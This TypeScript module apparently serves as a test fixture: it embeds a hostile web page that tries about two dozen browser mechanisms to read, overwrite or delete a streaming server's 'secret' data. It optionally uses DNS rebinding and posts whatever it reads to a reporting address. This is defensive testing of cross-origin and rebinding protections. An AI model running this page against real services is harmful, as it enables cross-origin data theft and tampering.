/**
 * A page that tries every way a page has to read or change a server's data, and reports what it could read. Its own
 * address names the server to ask (`base`) and the place to report to (`report`).
 */

/** Every way the page tries, by the name that it puts into its requests (`by`). */
export const ways: ReadonlyArray<string> = [
  "fetch",
  "fetch-list",
  "fetch-opaque",
  "fetch-protocol",
  "fetch-json",
  "fetch-text",
  "fetch-close",
  "fetch-put",
  "fetch-delete",
  "fetch-subscribe",
  "xhr",
  "beacon-text",
  "beacon-json",
  "form-text",
  "form-url",
  "form-parts",
  "img",
  "script",
  "module",
  "style",
  "video",
  "frame",
  "eventsource",
  "websocket"
]

export const page = `<!doctype html><meta charset="utf-8"><title>a page</title><body><script>
const asked = new URLSearchParams(location.search)
const base = asked.get("base") ?? location.origin
const patience = 2500
const evil = '{"data":"evil"}'
const json = { "content-type": "application/json" }
const url = (path, by) => base + path + (path.includes("?") ? "&" : "?") + "by=" + by
const events = "/streams/secret/events"
const text = async (path, by, options) => await (await fetch(url(path, by), options)).text()
const giveUp = () => new Promise((resolve) => setTimeout(resolve, patience, ""))

const element = (name, attribute, path, by, more = {}) => new Promise((resolve) => {
  const made = Object.assign(document.createElement(name), more)
  made.onload = () => {
    try {
      resolve(made.contentDocument?.body?.innerText ?? "")
    } catch {
      resolve("")
    }
  }
  made.onerror = () => resolve("")
  made[attribute] = url(path, by)
  document.body.append(made)
})

const form = (enctype, path, by) => new Promise((resolve) => {
  const frame = Object.assign(document.createElement("iframe"), { name: by })
  document.body.append(frame)
  const made = Object.assign(document.createElement("form"), { method: "POST", enctype, target: by, action: url(path, by) })
  made.append(Object.assign(document.createElement("input"), { name: '{"data":"evil","x":"', value: '"}' }))
  document.body.append(made)
  setTimeout(() => {
    try {
      resolve(frame.contentDocument?.body?.innerText ?? "")
    } catch {
      resolve("")
    }
  }, patience - 500)
  made.submit()
})

const xhr = (path, by) => new Promise((resolve) => {
  const made = new XMLHttpRequest()
  made.onloadend = () => resolve(made.responseText)
  made.open("GET", url(path, by))
  made.send()
})

const following = (by) => new Promise((resolve) => {
  const source = new EventSource(url("/streams/secret?offset=-1", by))
  source.onmessage = ({ data }) => resolve(data)
})

const socket = (by) => new Promise((resolve) => {
  const made = new WebSocket(url("/streams/secret?offset=-1", by).replace(/^http/, "ws"))
  made.onopen = () => resolve("the socket is open")
  made.onmessage = ({ data }) => resolve(String(data))
  made.onerror = () => resolve("")
})

const beacon = (type, by) => {
  navigator.sendBeacon(url("/streams/secret", by), new Blob([evil], { type }))
  return giveUp()
}

const module = async (by) => {
  const made = await import(url(events, by))
  return JSON.stringify(made)
}

const wake = '{"type":"pull-wake","pattern":"**","wake_stream":"planted"}'
const plain = { "content-type": "text/plain" }

const ways = {
  "fetch": (by) => text(events, by),
  "fetch-list": (by) => text("/streams", by),
  "fetch-opaque": (by) => text(events, by, { mode: "no-cors" }),
  "fetch-protocol": (by) => text("/v1/stream/secret?offset=-1", by),
  "fetch-json": (by) => text("/streams/secret", by, { method: "POST", headers: json, body: evil }),
  "fetch-text": (by) => text("/streams/secret", by, { method: "POST", mode: "no-cors", headers: plain, body: evil }),
  "fetch-close": (by) => text("/v1/stream/secret", by, { method: "POST", mode: "no-cors", headers: plain, body: "evil" }),
  "fetch-put": (by) => text("/v1/stream/planted", by, { method: "PUT", headers: plain, body: "evil" }),
  "fetch-delete": (by) => text("/streams/doomed", by, { method: "DELETE" }),
  "fetch-subscribe": (by) =>
    text("/v1/stream/__ds/subscriptions/evil", by, { method: "PUT", headers: json, body: wake }),
  "xhr": (by) => xhr(events, by),
  "beacon-text": (by) => beacon("text/plain", by),
  "beacon-json": (by) => beacon("application/json", by),
  "form-text": (by) => form("text/plain", "/streams/secret", by),
  "form-url": (by) => form("application/x-www-form-urlencoded", "/streams/secret", by),
  "form-parts": (by) => form("multipart/form-data", "/v1/stream/secret", by),
  "img": (by) => element("img", "src", events, by),
  "script": (by) => element("script", "src", events, by),
  "module": module,
  "style": (by) => element("link", "href", events, by, { rel: "stylesheet" }),
  "video": (by) => element("video", "src", events, by),
  "frame": (by) => element("iframe", "src", events, by),
  "eventsource": following,
  "websocket": socket
}

const go = async () => {
  // From here on, the name is bound to another address.
  if (asked.get("rebind") !== null) await fetch("/rebind")
  const read = await Promise.all(Object.entries(ways).map(async ([by, way]) => {
    try {
      return { by, text: String(await Promise.race([way(by), giveUp()])) }
    } catch (error) {
      return { by, text: "" }
    }
  }))
  await fetch(asked.get("report"), { method: "POST", mode: "no-cors", body: JSON.stringify(read) })
}
go()
</script>`
